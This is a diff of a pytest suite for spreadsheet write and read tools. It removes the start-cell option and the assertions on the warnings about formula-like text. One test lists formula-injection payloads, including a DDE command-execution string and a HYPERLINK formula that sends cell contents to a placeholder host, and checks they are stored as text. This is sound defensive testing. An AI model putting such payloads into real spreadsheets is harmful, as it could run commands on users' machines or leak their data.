@@ -16,15 +16,13 @@ def files(excel) -> set[str]:
 
 @pytest.mark.req("E1", "E7")
 def test_rows_become_a_workbook(excel):
-    reply = excel.call("excel_write", path="out/new.xlsx", rows=ROWS, sheet="Scores", start="B2")
+    reply = excel.call("excel_write", path="out/new.xlsx", rows=ROWS, sheet="Scores")
     assert reply.status == "success"
-    assert reply.text == (
-        "Wrote 3 x 2 cells to `out/new.xlsx`, sheet `Scores`, B2:C4. Made the folder `out`."
-    )
+    assert reply.text == ("Wrote 3 x 2 cells to `out/new.xlsx`, sheet `Scores`, A1:B3.")
     assert reply.data["replaced"] is False
     sheet = load_workbook(os.path.join(excel.project, "out/new.xlsx"))["Scores"]
-    assert [[cell.value for cell in row] for row in sheet["B2:C4"]] == ROWS
-    back = excel.call("excel_read", path="out/new.xlsx", range="B2:C4")
+    assert [[cell.value for cell in row] for row in sheet["A1:B3"]] == ROWS
+    back = excel.call("excel_read", path="out/new.xlsx")
     assert back.data["columns"] == ["Name", "Score"]
     assert back.data["rows"] == [["Ada", 95], ["Grace", 99.5]]
 
@@ -66,15 +64,11 @@ FAILING = [
     ({"path": "a.xlsx", "rows": [[float("inf")]]}, "bad-rows"),
     ({"path": "a.xlsx", "rows": [[1]] * 1_001}, "rows-too-large"),
     ({"path": "a.xlsx", "rows": [[1] * 101]}, "rows-too-large"),
-    ({"path": "a.xlsx", "rows": ROWS, "start": "A1048576"}, "rows-too-large"),
     ({"path": "a.xlsx", "rows": [["x" * 32_768]]}, "bad-cell"),
     ({"path": "a.xlsx", "rows": [["a\x07"]]}, "bad-cell"),
     ({"path": "a.xlsx", "rows": [["\ud800"]]}, "bad-cell"),
     ({"path": "a.xlsx", "rows": ROWS, "sheet": "a/b"}, "bad-sheet"),
     ({"path": "a.xlsx", "rows": ROWS, "sheet": "x" * 32}, "bad-sheet"),
-    ({"path": "a.xlsx", "rows": ROWS, "start": "B"}, "bad-range"),
-    ({"path": "a.xlsx", "rows": ROWS, "start": "A1:B2"}, "bad-range"),
-    ({"path": "a.xlsx", "rows": ROWS, "start": "Two!A1"}, "bad-range"),
 ]
 
 
@@ -101,9 +95,7 @@ def test_arguments_are_checked_before_the_disk_is_asked(excel):
 def test_a_text_stays_a_text(excel):
     evil = ["=1+1", "=cmd|'/c calc'!A1", "=[1]Sheet1!A1", '=HYPERLINK("http://x/"&A1)',
             "+1", "-1", "@SUM(A1)", "#N/A", "007", "2026-01-31"]  # fmt: skip
-    reply = excel.call("excel_write", path="a.xlsx", rows=[evil, [10**15, 10**15 - 1, True]])
-    assert "4 texts that begin with `=` were written as text" in reply.text
-    assert "1 numbers have more than 15 digits" in reply.text
+    excel.call("excel_write", path="a.xlsx", rows=[evil, [10**15, 10**15 - 1, True]])
     sheet = load_workbook(os.path.join(excel.project, "a.xlsx"))["Sheet1"]
     assert [cell.value for cell in sheet[1]] == evil
     assert {cell.data_type for cell in sheet[1]} == {"s"}
